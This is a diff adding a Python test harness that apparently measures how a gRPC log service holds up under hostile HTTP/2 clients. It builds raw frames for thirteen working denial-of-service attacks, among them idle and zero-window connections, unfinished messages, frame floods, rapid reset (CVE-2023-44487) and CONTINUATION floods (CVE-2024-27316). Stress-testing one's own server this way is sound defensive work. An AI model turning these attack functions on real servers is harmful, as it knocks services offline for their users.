@@ -1,0 +1,326 @@
+"""Clients that break no socket rule and mean no good: raw HTTP/2 frames, many connections, nothing read. Each attack is a function of
+a node's address and a number of connections; it returns its sockets, so that what it holds is held until the caller closes them.
+
+As a script it prints what each attack costs a node: memory, and what another client's produce calls take meanwhile.
+
+    hostile.py BINARY [CONNECTIONS] [ATTACK...]
+"""
+
+import contextlib
+import errno
+import resource
+import socket
+import struct
+import sys
+import threading
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
+UNKNOWN = 0xFA
+END_STREAM, END_HEADERS = 1, 4
+INITIAL_WINDOW_SIZE = 4
+# Descriptors that stay for everything else.
+SPARE_FILES = 200
+
+
+def frame(kind, flags=0, stream=0, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def setting(identifier, value):
+    return frame(SETTINGS, payload=struct.pack(">HI", identifier, value))
+
+
+def _literal(name, value):
+    """A header field without indexing (RFC 7541 6.2.2); both lengths below 127."""
+    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+def headers(stream, path, flags=END_HEADERS, more=()):
+    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x")]
+    fields += [(b"content-type", b"application/grpc"), (b"te", b"trailers"), *more]
+    return frame(HEADERS, flags, stream, b"".join(_literal(*field) for field in fields))
+
+
+def message(payload):
+    return b"\0" + struct.pack(">I", len(payload)) + payload
+
+
+def _field(number, payload):
+    length = len(payload)
+    size = bytes([length]) if length < 128 else bytes([length & 127 | 128, length >> 7])
+    return bytes([number << 3 | 2]) + size + payload
+
+
+def produce_request(topic, value):
+    return message(_field(1, topic.encode()) + _field(3, _field(2, value)))
+
+
+def consume_request(topic):
+    """From the earliest record of shard 0 on."""
+    return message(_field(1, topic.encode()))
+
+
+PRODUCE, PRODUCE_STREAM = b"/ringlog.v1.Log/Produce", b"/ringlog.v1.Log/ProduceStream"
+CONSUME, CONSUME_STREAM = b"/ringlog.v1.Log/Consume", b"/ringlog.v1.Log/ConsumeStream"
+
+
+def connect(address, first=b""):
+    """A connection that has said its preface and `first`; None when the node takes no more."""
+    host, port = address.rsplit(":", 1)
+    connection = socket.create_connection((host, int(port)), timeout=10)
+    if not send(connection, PREFACE + (first or frame(SETTINGS))):
+        connection.close()
+        return None
+    return connection
+
+
+def send(connection, data, seconds=5.0):
+    """Sends for at most that long. False when the node has closed the connection."""
+    connection.setblocking(False)
+    view, until = memoryview(data), time.monotonic() + seconds
+    while view and time.monotonic() < until:
+        try:
+            view = view[connection.send(view):]
+        except BlockingIOError:
+            time.sleep(0.001)
+        except OSError as error:
+            if error.errno in (errno.EPIPE, errno.ECONNRESET):
+                return False
+            raise
+    return True
+
+
+def _many(address, connections, opening, then=lambda connection: None):
+    held = []
+    for _ in range(connections):
+        try:
+            connection = connect(address, opening)
+        except OSError:
+            break
+        if connection is not None:
+            held.append(connection)
+            then(connection)
+    return held
+
+
+def idle(address, connections, topic):
+    return _many(address, connections, frame(SETTINGS))
+
+
+def answers_unread(address, connections, topic):
+    """Consumers whose window is 0: a thousand streams on one connection, and some on each of the others."""
+    closed = setting(INITIAL_WINDOW_SIZE, 0)
+
+    def open_streams(count):
+        request = frame(DATA, END_STREAM, 0, consume_request(topic))[9:]
+        streams = range(1, 2 * count, 2)
+        return b"".join(headers(n, CONSUME_STREAM) + frame(DATA, END_STREAM, n, request) for n in streams)
+
+    held = _many(address, 1, closed + open_streams(1000))
+    return held + _many(address, connections - 1, closed + open_streams(8))
+
+
+def acks_unread(address, connections, topic):
+    """Producers that send all that their windows allow, and let no acknowledgement come."""
+    request = frame(DATA, 0, 1, produce_request(topic, b"x" * 100))
+    opening = setting(INITIAL_WINDOW_SIZE, 0) + headers(1, PRODUCE_STREAM)
+    return _many(address, connections, opening, lambda connection: send(connection, request * 2000, 0.2))
+
+
+def announced(address, connections, topic):
+    """Messages of 4 MiB of which one byte comes."""
+    begun = b"".join(headers(n, PRODUCE) + frame(DATA, 0, n, b"\0\0\x3f\xff\xff\x0a") for n in range(1, 33, 2))
+    return _many(address, connections, frame(SETTINGS) + begun)
+
+
+def tiny_frames(address, connections, topic):
+    """A message that comes byte by byte, each in a frame of its own, and never ends."""
+    opening = frame(SETTINGS) + headers(1, PRODUCE) + frame(DATA, 0, 1, b"\0\0\x3f\xff\xff")
+    part = frame(DATA, 0, 1, b"\x0a") * 4000
+    return _many(address, connections, opening, lambda connection: send(connection, part, 0.1))
+
+
+def large_headers(address, connections, topic):
+    """Streams with long headers that go no further."""
+    more = [(b"x-%d" % n, b"v" * 120) for n in range(60)]
+    begun = b"".join(headers(n, PRODUCE, more=more) for n in range(1, 65, 2))
+    return _many(address, connections, frame(SETTINGS) + begun)
+
+
+def _flood(address, part, seconds=3.0):
+    """One connection that sends the same again and again for some seconds, and reads nothing."""
+    connection, until = connect(address), time.monotonic() + seconds
+    while time.monotonic() < until and send(connection, part, 0.5):
+        pass
+    return [connection]
+
+
+def window_updates(address, connections, topic):
+    return _flood(address, frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 1000)
+
+
+def priorities(address, connections, topic):
+    return _flood(address, frame(PRIORITY, 0, 1, b"\0\0\0\0\1") * 1000)
+
+
+def unknown_frames(address, connections, topic):
+    return _flood(address, frame(UNKNOWN, payload=b"x") * 1000)
+
+
+def pings(address, connections, topic):
+    return _flood(address, frame(PING, payload=b"12345678") * 1000)
+
+
+def settings(address, connections, topic):
+    return _flood(address, frame(SETTINGS) * 1000)
+
+
+def resets(address, connections, topic):
+    """Calls that are cancelled at once (CVE-2023-44487)."""
+    connection, stream, until = connect(address), 1, time.monotonic() + 3
+    while time.monotonic() < until:
+        part = b""
+        for _ in range(200):
+            part += headers(stream, CONSUME_STREAM) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+            stream += 2
+        if not send(connection, part, 0.5):
+            break
+    return [connection]
+
+
+def continuations(address, connections, topic):
+    """A header block that never ends (CVE-2024-27316)."""
+    connection = connect(address, frame(SETTINGS) + headers(1, PRODUCE, flags=0))
+    part = frame(CONTINUATION, 0, 1, _literal(b"x", b"y" * 100)) * 100
+    until = time.monotonic() + 3
+    while time.monotonic() < until and send(connection, part, 0.5):
+        pass
+    return [connection]
+
+
+ATTACKS = [
+    idle,
+    answers_unread,
+    acks_unread,
+    announced,
+    tiny_frames,
+    large_headers,
+    window_updates,
+    priorities,
+    unknown_frames,
+    pings,
+    settings,
+    resets,
+    continuations,
+]
+
+
+def rss_mib(pid):
+    with open(f"/proc/{pid}/status") as status:
+        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS:")) / 1024
+
+
+class Watch:
+    """The largest resident memory of a process while it is watched."""
+
+    def __init__(self, pid):
+        self.pid, self.before_mib, self.most_mib = pid, rss_mib(pid), 0.0
+        self._end = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+
+    def _run(self):
+        while not self._end.wait(0.02):
+            with contextlib.suppress(OSError, StopIteration):
+                self.most_mib = max(self.most_mib, rss_mib(self.pid))
+
+    def __enter__(self):
+        self._thread.start()
+        return self
+
+    def __exit__(self, *_):
+        self._end.set()
+        self._thread.join()
+
+    @property
+    def more_mib(self):
+        return max(self.most_mib, self.before_mib) - self.before_mib
+
+
+def connections_possible(wanted):
+    """How many of the wanted connections this process has descriptors for."""
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    return min(wanted, hard - SPARE_FILES)
+
+
+def main():
+    import pathlib
+    import tempfile
+    import os
+
+    os.environ["INTEROP_BIN"] = sys.argv[1]
+    connections = connections_possible(int(sys.argv[2]) if len(sys.argv) > 2 else 4096)
+    chosen = [attack for attack in ATTACKS if not sys.argv[3:] or attack.__name__ in sys.argv[3:]]
+    from conftest import Node, log_pb2, log_pb2_grpc
+
+    print(f"{connections} connections\n{'attack':18} {'MiB more':>9} {'p50 ms':>8} {'p99 ms':>8} {'alone p99':>10} {'refused':>8}")
+    for attack in chosen:
+        with tempfile.TemporaryDirectory() as directory:
+            node = Node(directory).start()
+            try:
+                with node.channel() as channel:
+                    log = log_pb2_grpc.LogStub(channel)
+                    fill(log, log_pb2)
+                    alone, _ = good_calls(log, log_pb2, seconds=3)
+                    with Watch(node.process.pid) as watch:
+                        done = threading.Event()
+                        held = []
+
+                        def run(attack=attack, held=held, done=done, node=node):
+                            held += attack(node.address, connections, "t") or []
+                            time.sleep(1)
+                            done.set()
+
+                        thread = threading.Thread(target=run)
+                        thread.start()
+                        during, refused = good_calls(log, log_pb2, until=done)
+                        thread.join()
+                    for connection in held:
+                        connection.close()
+                row = (watch.more_mib, at(during, 50), at(during, 99), at(alone, 99), refused)
+                print(f"{attack.__name__:18} {row[0]:9.0f} {row[1]:8.2f} {row[2]:8.2f} {row[3]:10.2f} {row[4]:8}", flush=True)
+            finally:
+                node.kill()
+
+
+def fill(log, log_pb2, mib=32):
+    """Records to consume in shard 0 of topic t."""
+    records = [log_pb2.Record(value=b"r" * 1000)] * 1000
+    for _ in range(mib):
+        log.Produce(log_pb2.ProduceRequest(topic="t", shard=0, records=records), timeout=60)
+
+
+def good_calls(log, log_pb2, seconds=0.0, until=None):
+    """What produce calls one after the other take, in ms, and how many of them failed."""
+    import grpc
+
+    end, taken, refused = time.monotonic() + seconds, [], 0
+    while (time.monotonic() < end) if until is None else not until.is_set():
+        begin = time.monotonic()
+        try:
+            log.Produce(log_pb2.ProduceRequest(topic="t", shard=0, records=[log_pb2.Record(value=b"good")]), timeout=30)
+            taken.append(1000 * (time.monotonic() - begin))
+        except grpc.RpcError:
+            refused += 1
+    return taken, refused
+
+
+def at(values, percent):
+    ordered = sorted(values) or [float("nan")]
+    return ordered[min(len(ordered) - 1, len(ordered) * percent // 100)]
+
+
+if __name__ == "__main__":
+    main()
